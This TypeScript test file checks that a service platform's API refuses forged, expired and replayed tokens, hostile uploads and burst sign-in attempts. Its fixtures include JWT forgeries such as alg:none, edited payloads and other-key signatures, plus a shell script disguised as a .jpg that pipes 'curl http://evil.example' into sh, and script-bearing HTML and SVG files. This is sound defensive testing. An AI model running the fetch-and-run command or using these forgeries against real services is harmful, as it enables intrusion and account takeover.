import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import jwt from 'jsonwebtoken';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Upload } from '../src/modules/uploads/model';
import { dropTestDatabase, startTestServer, type TestServer } from './harness';
import { book, buildWorld, staffLogin, uniqueSlot, upload, PNG_1x1, type OrderWorld } from './orderKit';
import { databaseDigest } from './abuseKit';

/**
 * Forged, expired and replayed credentials of every kind the platform issues (access and refresh tokens, e-work
 * card QR tokens, service codes), hostile uploads, and rate limits under a burst. Each is refused, and nothing the
 * attacker sends changes the database.
 */
let t: TestServer;
let w: OrderWorld;
let orders: Array<{ id: string; orderNo: string }>;
const JWT_CLAIMS = { iss: 'fangxin', aud: 'fangxin-api' };

const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const me = (token: string) => t.request('GET', '/api/v1/me', { token });
const staffList = (token: string) => t.request('GET', '/api/v1/orders', { token });

beforeAll(async () => {
  t = await startTestServer();
  w = await buildWorld(t);
  orders = [];
  for (const engineer of [0, 1]) {
    const order = await book(t, w, { slot: uniqueSlot(w) });
    const E = w.engineers[engineer]!;
    for (const [step, token, body] of [['dispatch', w.tokens.manager, { engineerId: E.engineerId }], ['accept', E.token], ['depart', E.token]] as const) {
      const res = await t.request('POST', `/api/v1/orders/${order.id}/${step}`, { token, ...(body ? { body } : {}) });
      expect(res.status, step).toBe(200);
    }
    orders.push({ id: order.id, orderNo: order.orderNo });
  }
}, 120_000);

afterAll(async () => {
  await t?.close();
  await dropTestDatabase();
});

describe('access tokens', () => {
  it('refuses expired, tampered, alg:none, other-key, other-algorithm and wrong-audience tokens, on every kind of route', async () => {
    const { accessToken } = await staffLogin(t, w.usernames.admin);
    const claims = jwt.decode(accessToken) as jwt.JwtPayload;
    const secret = t.config.JWT_SECRET;
    const now = Math.floor(t.clock.now().getTime() / 1000);
    const [header, payload, signature] = accessToken.split('.') as [string, string, string];
    const rsa = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;
    const forged: Record<string, string> = {
      expired: jwt.sign({ ...claims, iat: now - 3600, exp: now - 60 }, secret, { algorithm: 'HS256' }),
      'payload edited (role)': `${header}.${b64url({ ...claims, role: 'platform_admin', sub: w.customer.id })}.${signature}`,
      'signature edited': `${header}.${payload}.${signature.slice(0, -4)}AAAA`,
      'alg: none': `${b64url({ alg: 'none', typ: 'JWT' })}.${payload}.`,
      'signed with another secret': jwt.sign(claims, 'another-secret-0123456789abcdef0123456789', { algorithm: 'HS256' }),
      'RS256 with an attacker key': jwt.sign(claims, rsa, { algorithm: 'RS256' }),
      'HS512 with the right secret': jwt.sign(claims, secret, { algorithm: 'HS512' }),
      'wrong audience': jwt.sign({ ...claims, aud: 'someone-else' }, secret, { algorithm: 'HS256' }),
      'unknown user': jwt.sign({ ...claims, sub: '0123456789abcdef01234567' }, secret, { algorithm: 'HS256' }),
      'not a JWT': 'hello.world',
    };
    expect((await me(accessToken)).status).toBe(200);
    expect(JWT_CLAIMS).toMatchObject({ iss: claims.iss, aud: claims.aud });
    const before = await databaseDigest();
    for (const [label, token] of Object.entries(forged)) {
      for (const res of [await me(token), await staffList(token)]) {
        expect(res.status, label).toBe(401);
        expect(['unauthenticated', 'token_expired'], label).toContain(res.body.error.id);
      }
    }
    expect(await databaseDigest()).toEqual(before);
  });

  it('refuses a reused refresh token and then the whole family, and a token after sign-out', async () => {
    const first = await staffLogin(t, w.usernames.manager);
    const rotated = await t.request('POST', '/api/v1/auth/refresh', { body: { refreshToken: first.refreshToken } });
    expect(rotated.status).toBe(200);
    const reuse = await t.request('POST', '/api/v1/auth/refresh', { body: { refreshToken: first.refreshToken } });
    expect(reuse.status).toBe(401);
    expect(reuse.body.error.id).toBe('refresh_token_reused');
    // The thief may hold the newer one: it dies with the family.
    const newer = await t.request('POST', '/api/v1/auth/refresh', { body: { refreshToken: rotated.body.refreshToken } });
    expect(newer.status).toBe(401);

    const session = await staffLogin(t, w.usernames.manager);
    expect((await t.request('POST', '/api/v1/auth/logout', { body: { refreshToken: session.refreshToken } })).status).toBeLessThan(300);
    expect((await t.request('POST', '/api/v1/auth/refresh', { body: { refreshToken: session.refreshToken } })).status).toBe(401);
    const made = await t.request('POST', '/api/v1/auth/refresh', { body: { refreshToken: crypto.randomBytes(32).toString('base64url') } });
    expect(made.status).toBe(401);
  });
});

describe('e-work card tokens', () => {
  const verify = (token: string, as?: string) => t.request('POST', '/api/v1/cards/verify', { token: as, body: { token } });
  const cardToken = async (engineer: number) => (await t.request('GET', '/api/v1/me/card', { token: w.engineers[engineer]!.token })).body.qr.token as string;

  it('calls forged, edited and other-key tokens tampered, and a replay after 60 s expired', async () => {
    const token = await cardToken(0);
    expect((await verify(token)).body.verdict).toBe('genuine');
    const [body, sig] = token.split('.') as [string, string];
    const payload = JSON.parse(Buffer.from(body, 'base64url').toString());
    const attacker = crypto.generateKeyPairSync('ed25519').privateKey;
    const edited = b64url({ ...payload, e: w.engineers[1]!.engineerId });
    const fresh = b64url({ ...payload, iat: payload.iat + 3600, exp: payload.exp + 3600 });
    const forged = {
      'random bytes': `${b64url({ v: 1 })}.${crypto.randomBytes(64).toString('base64url')}`,
      'engineer swapped, old signature': `${edited}.${sig}`,
      'expiry pushed, old signature': `${fresh}.${sig}`,
      'signed with another Ed25519 key': `${fresh}.${crypto.sign(null, Buffer.from(fresh, 'ascii'), attacker).toString('base64url')}`,
      'garbage': 'not-a-token',
    };
    for (const [label, bad] of Object.entries(forged)) {
      const res = await verify(bad);
      expect(res.status, label).toBe(200);
      expect(res.body.verdict, label).toBe('tampered');
      expect(res.body.engineer, label).toBeNull();
    }
    t.clock.advance(61_000);
    const replay = await verify(token);
    expect(replay.body.verdict).toBe('expired');
  });

  it('does not match another order’s engineer: the customer sees the card is not for their order', async () => {
    // Engineer 1 serves the second order; the customer of the first scans engineer 1's card.
    const res = await verify(await cardToken(1), w.customer.token);
    expect(res.body.verdict).toBe('genuine');
    const mine = res.body.orders.find((o: { orderId: string }) => o.orderId === orders[0]!.id);
    expect(mine).toMatchObject({ assignedToThisOrder: false, match: false });
  });
});

describe('service codes', () => {
  const code = async (order: { id: string }) => (await t.request('POST', `/api/v1/orders/${order.id}/service-code`, { token: w.customer.token })).body;
  const checkIn = (order: { id: string }, engineer: number, serviceCode: string) =>
    t.request('POST', `/api/v1/orders/${order.id}/check-in`, { token: w.engineers[engineer]!.token, body: { serviceCode } });

  it('refuses a forged code, another order’s code and an expired one, leaving the order on the way', async () => {
    const [first, second] = orders as [{ id: string; orderNo: string }, { id: string; orderNo: string }];
    const own = await code(first);
    const others = await code(second);
    const refusals = {
      forged: `FXSC:${first.orderNo}:000000`,
      'another order’s code': others.qrText,
      'another order’s code under this order number': `FXSC:${first.orderNo}:${others.serviceCode}`,
    };
    for (const [label, bad] of Object.entries(refusals)) {
      const res = await checkIn(first, 0, bad);
      expect(res.status, label).toBe(409);
      expect(res.body.error.id, label).toBe('service_code_invalid');
    }
    const garbage = await checkIn(first, 0, 'FXSC:garbage');
    expect(garbage.status).toBe(400);
    expect(garbage.body.error.fields[0].path).toBe('serviceCode');
    t.clock.advance(11 * 60_000);
    const expired = await checkIn(first, 0, own.qrText);
    expect(expired.body.error.id).toBe('service_code_invalid');
    expect((await t.request('GET', `/api/v1/orders/${first.id}`, { token: w.customer.token })).body.status).toBe('on_the_way');
    // A fresh code works, once.
    const again = await code(first);
    expect((await checkIn(first, 0, again.qrText)).status).toBe(200);
    expect((await checkIn(first, 0, again.qrText)).status).toBe(409);
  });
});

describe('uploads', () => {
  it('refuses a script renamed .jpg, HTML, an SVG with script, a decompression-bomb-sized PNG and an oversized file; nothing is stored', async () => {
    const token = w.engineers[1]!.token;
    const fields = { kind: 'report_photo', orderId: orders[1]!.id };
    const ihdr = (width: number, height: number) => {
      const png = Buffer.from(PNG_1x1);
      png.writeUInt32BE(width, 16);
      png.writeUInt32BE(height, 20);
      return png;
    };
    const dir = path.join(t.config.DATA_DIR, 'uploads');
    const stored = () => (fs.existsSync(dir) ? fs.readdirSync(dir, { recursive: true }).length : 0);
    const files = stored();
    const count = await Upload.countDocuments();
    const attacks: Array<[string, Buffer, string, number]> = [
      ['shell script as .jpg', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'photo.jpg', 415],
      ['HTML as .png', Buffer.from('<html><script>alert(1)</script></html>'), 'photo.png', 415],
      ['SVG with script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'photo.svg', 415],
      ['ELF binary as .webp', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), crypto.randomBytes(64)]), 'photo.webp', 415],
      ['PNG claiming 100000×100000 pixels', ihdr(100_000, 100_000), 'bomb.png', 413],
      ['6 MB file', Buffer.concat([PNG_1x1, crypto.randomBytes(6 * 1024 * 1024)]), 'big.png', 413],
    ];
    for (const [label, bytes, name, status] of attacks) {
      const res = await upload(t, token, fields, bytes, name);
      expect(res.status, label).toBe(status);
      expect(res.body.error.message, label).toBeTruthy();
    }
    expect(await Upload.countDocuments()).toBe(count);
    expect(stored()).toBe(files);
    expect((await upload(t, token, fields)).status).toBe(201);
  });
});

describe('rate limits', () => {
  it('hold exactly under a concurrent burst from one client and do not block other clients', async () => {
    // Behind a proxy (TRUST_PROXY): clients are told apart by X-Forwarded-For. Default limit: 20 sign-ins per IP per minute.
    const limited = await startTestServer({ env: { TRUST_PROXY: 'true', RATE_LOGIN_PER_IP_PER_MIN: '20' } });
    try {
      const attempt = (ip: string, username: string, password = 'wrong-password-1') =>
        limited.request('POST', '/api/v1/auth/staff/login', { body: { username, password }, headers: { 'x-forwarded-for': ip } });
      const burst = await Promise.all(Array.from({ length: 60 }, (_, i) => attempt('203.0.113.7', `nobody${i}`)));
      const tooMany = burst.filter((r) => r.status === 429);
      expect(burst.length - tooMany.length).toBe(20);
      expect(tooMany).toHaveLength(40);
      expect(tooMany.every((r) => Number(r.headers.get('retry-after')) > 0 && r.body.error.id === 'too_many_requests')).toBe(true);
      // Other clients sign in normally, during and after the burst.
      const [other, stillLimited] = await Promise.all([attempt('198.51.100.20', w.usernames.manager, 'Correct-Horse-9'), attempt('203.0.113.7', w.usernames.manager, 'Correct-Horse-9')]);
      expect(other.status).toBe(200);
      expect(stillLimited.status).toBe(429);
      // A minute later the window has passed.
      limited.clock.advance(61_000);
      expect((await attempt('203.0.113.7', w.usernames.manager, 'Correct-Horse-9')).status).toBe(200);
    } finally {
      await limited.close();
    }
  });
});
